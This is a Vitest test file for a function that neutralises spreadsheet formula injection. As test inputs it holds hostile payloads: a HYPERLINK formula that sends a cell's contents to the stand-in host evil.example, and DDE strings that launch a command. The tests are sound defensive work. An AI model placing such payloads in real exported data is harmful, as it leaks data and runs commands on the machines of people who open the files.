import { describe, expect, it } from 'vitest';
import { looksLikeFormula, neutraliseFormula } from './spreadsheet-formula.js';

describe('formula-looking text', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', `'=HYPERLINK("http://evil.example/?"&A1,"点击")`],
    ['+1+cmd|" /C calc"!A0', `'+1+cmd|" /C calc"!A0`],
    ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
    ['-A1', "'-A1"],
    ['@SUM(1,2)', "'@SUM(1,2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('neutralises %j', (text, written) => {
    expect(looksLikeFormula(text)).toBe(true);
    expect(neutraliseFormula(text)).toBe(written);
  });

  it.each([
    '-12.50',
    '-3',
    '+8613800138000',
    '2000.00',
    '53342319900512002X',
    '和丽华',
    '户主',
    'a=b',
    ' =1+1',
    '',
    '2024-01-05',
  ])('leaves %j as it is', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });
});
